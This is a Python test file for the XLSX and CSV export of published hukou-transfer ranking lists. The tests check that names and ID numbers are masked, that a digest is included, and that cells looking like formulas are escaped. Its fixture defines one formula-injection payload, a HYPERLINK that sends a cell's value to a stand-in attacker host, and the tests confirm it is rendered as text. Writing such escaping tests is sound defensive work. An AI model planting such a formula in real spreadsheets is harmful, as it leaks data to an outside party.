"""Exports: published lists as XLSX (masked, with the digest), and cells that a spreadsheet would run as formulas."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from jifen.exchange.spreadsheets import csv_chunks, read_table, write_xlsx

from .helpers import xlsx_rows

NAMES = ["陈新民", "王芳芳", "李建国"]
TOWN = '=HYPERLINK("http://evil.example/?"&A1,"魏塘街道")'  # a cell meant to run when the file is opened


@pytest.fixture
def published_round(hand_ranked_round):
    """A Jiashan hukou round with a current run (made by hand) published provisionally."""
    return hand_ranked_round(points=("95", "88", "80"), sub_quota=TOWN, digest="cd" * 32, publish=True)


def test_the_published_list_as_xlsx_has_the_csvs_masked_rows_and_the_digest(client, published_round):
    url = f"/jiashan/programs/hukou_transfer/rounds/{published_round['round']}/list"
    assert f"{url}.xlsx" in client.get(url).get_data(as_text=True)
    response = client.get(url + ".xlsx")
    assert response.status_code == 200 and response.headers["X-Ranking-Digest"] == "cd" * 32
    rows = xlsx_rows(response.data)
    as_csv = client.get(url + ".csv")
    csv_rows = list(csv.reader(io.StringIO(as_csv.get_data(as_text=True))))
    as_csv.close()
    assert rows[0][:4] == csv_rows[0] == [f"# published {rows[0][0].split()[-1]}", "stage provisional",
                                          f"sha256 {'cd' * 32}", "digest format 2"]
    assert rows[1] == csv_rows[1]
    assert len(rows) == 2 + 3
    for xlsx_row, csv_row in zip(rows[2:], csv_rows[2:]):
        assert [xlsx_row[0], xlsx_row[3], xlsx_row[4], xlsx_row[5]] == [int(csv_row[0]), csv_row[3], csv_row[4], csv_row[5]]
        assert xlsx_row[4].count("*") == 1 and "*" in xlsx_row[5]  # 陈*民, 3304**********1234
    assert [r[3] for r in rows[2:]] == published_round["references"]  # the reference numbers, as the list shows
    assert [r[6] for r in rows[2:]] == [95, 88, 80]
    body = response.data
    for person in published_round["people"]:
        assert person.real_name.encode() not in body and person.id_number.encode() not in body
    assert client.get(url + ".xlsx").data == body  # served again from the kept file


def test_no_published_list_no_xlsx(client, county, published_round):
    assert client.get("/jiashan/programs/hukou_transfer/rounds/1/list.xlsx").status_code == 404
    assert client.get(f"/haining/programs/hukou_transfer/rounds/{published_round['round']}/list.xlsx").status_code == 404
    # ids are BIGINT: a larger number in the URL is simply not found (not an error of the database)
    assert client.get(f"/jiashan/programs/hukou_transfer/rounds/{2**63}/list.xlsx").status_code == 404


def test_formula_cells_of_a_published_list_are_text_in_the_xlsx_and_the_csv(client, published_round):
    response = client.get(f"/jiashan/programs/hukou_transfer/rounds/{published_round['round']}/list.xlsx")
    sheet = load_workbook(io.BytesIO(response.data)).worksheets[0]
    town = sheet.cell(row=3, column=2)
    assert town.value == "'" + TOWN and town.data_type == "s"  # shown as text, never run
    as_csv = client.get(f"/jiashan/programs/hukou_transfer/rounds/{published_round['round']}/list.csv")
    towns = {row[1] for row in list(csv.reader(io.StringIO(as_csv.get_data(as_text=True))))[2:]}
    as_csv.close()
    assert towns == {"'" + TOWN}  # the list's own CSV too


def test_exported_cells_that_look_like_formulas_are_escaped_and_read_back_unchanged():
    row = ["=1+1", "+41", "-2", "@SUM(A1)", "\t=1", "ok", "a=b", 5, Decimal("-3"), None]
    text = b"".join(csv_chunks([["h"] * len(row), row])).decode("utf-8")
    assert text.startswith("\ufeff")
    written = next(csv.reader(io.StringIO(text[1:].splitlines()[1])))
    assert written == ["'=1+1", "'+41", "'-2", "'@SUM(A1)", "'\t=1", "ok", "a=b", "5", "-3", ""]
    buffer = io.BytesIO()
    write_xlsx([["h"] * len(row), row], buffer)
    cells = list(load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0].iter_rows(min_row=2))[0]
    assert [c.value for c in cells[:7]] == ["'=1+1", "'+41", "'-2", "'@SUM(A1)", "'\t=1", "ok", "a=b"]
    assert all(c.data_type == "s" for c in cells[:7]) and cells[7].value == 5
    for data in (text.encode("utf-8"), buffer.getvalue()):
        table = read_table(data, "x", max_rows=10)
        assert table.rows[0][1][:4] == ["=1+1", "+41", "-2", "@SUM(A1)"]  # the escape comes off on import


def test_cli_exports_the_queue_and_the_list(cli, queues, published_round, tmp_path):
    out = tmp_path / "queue.xlsx"
    result = cli("exchange", "export", "queue", "--county", "jiashan", "--department", "education", "-o", str(out))
    assert result.exit_code == 0, result.output
    assert "4 waiting items of education exported" in result.stderr
    rows = xlsx_rows(out.read_bytes())
    assert rows[0][:2] == ["申请编号", "事项编号"] and len(rows) == 5
    csv_result = cli("exchange", "export", "queue", "--tenant", "jiashan", "--department", "education", "--lang", "en")
    assert csv_result.stdout.startswith("\ufeffapplication,item,item type")
    listed = cli("exchange", "export", "list", "--county", "jiashan", str(published_round["round"]), "--format", "csv")
    assert listed.exit_code == 0 and f"sha256 {'cd' * 32}" in listed.stdout and "'=HYPERLINK" in listed.stdout
    missing = cli("exchange", "export", "list", "--county", "jiashan", "1")
    assert missing.exit_code == 1 and "has no published list" in missing.output
